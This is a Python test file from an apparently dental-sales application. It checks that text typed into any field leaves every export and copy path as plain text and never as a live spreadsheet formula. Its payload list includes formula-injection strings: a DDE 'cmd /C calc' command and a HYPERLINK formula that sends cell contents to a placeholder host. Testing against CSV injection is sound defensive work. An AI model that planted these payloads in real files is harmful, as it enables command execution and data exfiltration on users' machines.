"""S5: a formula that somebody types into any field of text leaves the program as text, and comes back as it was."""

import csv
import io
import json
import re
import shutil
from collections import Counter
from datetime import date, timedelta
from pathlib import Path
from typing import Any

from figures import Record, proved
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape
from sqlalchemy import Table, case, update

from dentalsales.app import business, metadata
from dentalsales.blueprint.fields import Field
from dentalsales.blueprint.house_records import Employee
from dentalsales.blueprint.record import fields_of
from dentalsales.blueprint.report import Period
from dentalsales.blueprint.sheet import Block, Row, Sheet, SheetColumn
from dentalsales.exchange import csv_out, excel_out, import_file, json_out
from dentalsales.exchange.import_result import bad_rows_sheet
from dentalsales.exchange.open_source import open_source
from dentalsales.i18n import Text
from dentalsales.storage.folder_company import FolderCompany
from dentalsales.ui.clipboard_block import block_of, cells_of, copied, written
from dentalsales.usecases import browse, copy_rows, list_sheet, run_report, settings_desk
from dentalsales.usecases.browse import Query
from dentalsales.usecases.desk import Desk

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"价格")',
    "'=1+1",
    "{=DDE(\"cmd\";\"/C calc\";\"x\")}",
)  # fmt: skip
LIVE = "=+-@\t\r\n＝＋－＠"


def fields_of_text() -> dict[str, list[tuple[str, Field]]]:
    """Every field of every register that takes free text, those of its lines included."""
    found = {}
    for register in business().registers:
        fields = fields_of(register.record)
        own = [(name, field) for name, field in fields.items() if field.kind in ("text", "note")]
        for name, field in fields.items():
            if field.kind == "lines":
                child = fields_of(getattr(register.record, name).property.mapper.class_)
                own += [(f"{name}.{inner}", one) for inner, one in child.items() if one.kind in ("text", "note")]
        if own:
            found[register.name] = own
    return found


def sheet_of(name: str, fields: list[tuple[str, Field]]) -> Sheet:
    """A list in whose every field of text stands each payload once."""
    columns = tuple(SheetColumn(field_name, Text(field_name), field.kind) for field_name, field in fields)
    rows = tuple(Row((payload,) * len(columns)) for payload in PAYLOADS)
    return Sheet(name, Text(name), "", (Block(Text(name), columns, rows),))


def expected(width: int) -> list[str]:
    return [payload for payload in PAYLOADS for _column in range(width)]


def test_no_text_of_any_register_becomes_a_formula_in_another_program(tmp_path: Path, record_property: Record) -> None:
    live = changed = tried = 0
    for name, fields in fields_of_text().items():
        sheet, width = sheet_of(name, fields), len(fields)
        tried += width
        book, text, data = tmp_path / f"{name}.xlsx", tmp_path / f"{name}.csv", tmp_path / f"{name}.json"
        excel_out.write_sheet(sheet, book)
        csv_out.write_sheet(sheet, text)
        json_out.write_sheet(sheet, data)

        cells = [cell for page in load_workbook(book) for row in page.iter_rows() for cell in row]
        live += sum(cell.data_type == "f" for cell in cells)
        texts = [unescape(cell.value) for cell in cells if isinstance(cell.value, str)]  # \r stands as _x000D_
        changed += [one for one in texts if one in PAYLOADS] != expected(width)
        found = csv_out_cells(text)
        live += sum(cell[:1] in LIVE for cell in found if cell)
        _headings, *rows = [cells for _number, cells in open_source(text).rows()]
        changed += [cell for row in rows for cell in row] != expected(width)
        copied = block_of([[written(one, one, field) for _name, field in fields] for one in PAYLOADS])
        live += sum(cell[:1] in LIVE for line in as_pasted(copied) for cell in line if cell)
        changed += [cell for row in cells_of(copied) for cell in row] != [
            payload.replace("\r", "\n")
            for payload in expected(width)  # a cell knows one kind of line end
        ]
        changed += payloads_in(json.loads(data.read_text("utf-8"))) != expected(width)
    proved(record_property, "S5 writers", fields=tried, payloads=len(PAYLOADS), live=live, changed=changed)
    assert tried > 50 and live == 0 and changed == 0


def test_what_stands_in_a_company_is_no_formula_on_any_way_out(
    sample: Path, tmp_path: Path, record_property: Record
) -> None:
    """Saved in every field of text of every record, by whatever way: lists, reports, copies, and back in again."""
    shutil.copytree(sample, tmp_path / "company")
    company = FolderCompany.open(tmp_path / "company", metadata())
    with company.writing() as session:
        poisoned = sum(poison(session, table) for table in metadata().sorted_tables)
        manager = session.query(Employee).filter_by(login="manager").one()
    ways = Ways(tmp_path)
    try:
        desk = Desk(business(), company, manager)
        for key in ("company_name", "company_address", "company_bank"):
            settings_desk.change(desk, key, "=1+1")
        for register in desk.business.registers:
            names = tuple(column.name for column in browse.all_columns(desk, register.name))
            rows = browse.page(desk, Query(register.name, columns=names), limit=len(PAYLOADS))
            query = Query(register.name, columns=names, only=tuple(row.id for row in rows.rows))
            ways.try_sheet(list_sheet.sheet(desk, query))
            page = copy_rows.copied(desk, query, len(PAYLOADS))
            ways.try_copy([list(row.cells) for row in page.rows])
        for report in desk.business.reports:
            customer = {"customer_id": 1} if report.name == "statement" else {}
            ways.try_sheet(run_report.run(desk, report.name, LAST_MONTHS, **customer))
        refused = tmp_path / "poison.csv"
        rows = (f'"{one}",,"{one}"\n' for one in PAYLOADS if '"' not in one)
        refused.write_text("客户名称,联系人,备注\n" + "".join(rows))
        ways.try_sheet(bad_rows_sheet(import_file.check(desk, "customers", refused)))
    finally:
        company.close()
    proved(
        record_property, "S5 company", columns=poisoned, payloads=len(PAYLOADS), sheets=ways.sheets, texts=ways.texts,
        live=len(ways.live), changed=len(ways.changed),
    )  # fmt: skip
    assert poisoned > 100 and ways.texts > 1_000 and (ways.live, ways.changed) == ([], [])


LAST_MONTHS = Period(date.today() - timedelta(days=60), date.today())
OWN_SUMS = re.compile(r"=(SUM|SUBTOTAL)\((\d+,)?[A-Z]+\d+(:[A-Z]+\d+)?\)")
"""The formulas that the program writes itself."""


def poison(session: Any, table: Table) -> int:
    """Write the payloads into every column of a table in which an employee's words stand; return how many columns."""
    kinds = {"text", "note"}
    columns = [
        one for one in table.columns
        if not one.unique and getattr(one.info.get("field"), "kind", "") in kinds and not one.foreign_keys
    ]  # fmt: skip
    if columns:
        words = case(*((table.c.id % len(PAYLOADS) == at, one) for at, one in enumerate(PAYLOADS)))
        session.execute(update(table).values({one.name: words for one in columns}))
    return len(columns)


class Ways:
    """The ways by which texts leave the program; keeps what a spreadsheet would run, and what came out otherwise."""

    def __init__(self, folder: Path) -> None:
        self._folder = folder
        self.sheets = self.texts = 0
        self.live: list[Any] = []
        self.changed: list[Any] = []

    def try_sheet(self, sheet: Sheet) -> None:
        """Write a sheet as workbook and text table, and read both as a spreadsheet and as the program does."""
        self.sheets += 1
        book, text = self._folder / "out.xlsx", self._folder / "out.csv"
        excel_out.write_sheet(sheet, book)
        csv_out.write_sheet(sheet, text)
        cells = [cell for page in load_workbook(book) for row in page.iter_rows() for cell in row]
        self.live += [
            (sheet.name, cell.value) for cell in cells if cell.data_type == "f" and not OWN_SUMS.fullmatch(cell.value)
        ]
        self.live += [(sheet.name, cell) for cell in csv_out_cells(text) if runs(cell)]
        wanted = Counter(word for block in sheet.blocks for row in block.rows for word in row.cells if word in POISON)
        self.texts += wanted.total()
        told = Counter(unescape(cell.value) for cell in cells if isinstance(cell.value, str))
        self.changed += [(sheet.name, word) for word in wanted if told[word] < wanted[word]]
        read = Counter(cell for _number, row in open_source(text).rows() for cell in row)
        self.changed += [(sheet.name, word) for word in wanted if read[word] < wanted[word]]

    def try_copy(self, rows: list[list[Any]]) -> None:
        """Copy rows of a list, and paste them into a spreadsheet and into a form."""
        block = block_of([[copied(cell) for cell in row] for row in rows])
        self.live += [("copy", cell) for line in as_pasted(block) for cell in line if runs(cell)]
        wanted = Counter(word.replace("\r", "\n") for row in rows for word in row if word in POISON)
        pasted = Counter(cell for row in cells_of(block) for cell in row)
        self.changed += [("copy", word) for word in wanted if pasted[word] < wanted[word]]


POISON = frozenset(PAYLOADS)


def runs(cell: str) -> bool:
    """Say whether a spreadsheet would calculate a cell of a text table; a plain number is no formula."""
    return cell[:1] in LIVE and bool(cell) and not re.fullmatch(r"[-+]?[\d.]+%?", cell)


def csv_out_cells(path: Path) -> list[str]:
    """The cells of a CSV file as a spreadsheet takes them."""
    with path.open(encoding="utf-8-sig", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def as_pasted(block: str) -> list[list[str]]:
    """The cells of a copied block as a spreadsheet takes them."""
    return list(csv.reader(io.StringIO(block, newline=""), dialect="excel-tab"))


def payloads_in(data: object) -> list[str]:
    """The payloads in a JSON document, in order."""
    if isinstance(data, dict):
        return [one for value in data.values() for one in payloads_in(value)]
    if isinstance(data, list):
        return [one for value in data for one in payloads_in(value)]
    return [data] if data in PAYLOADS else []
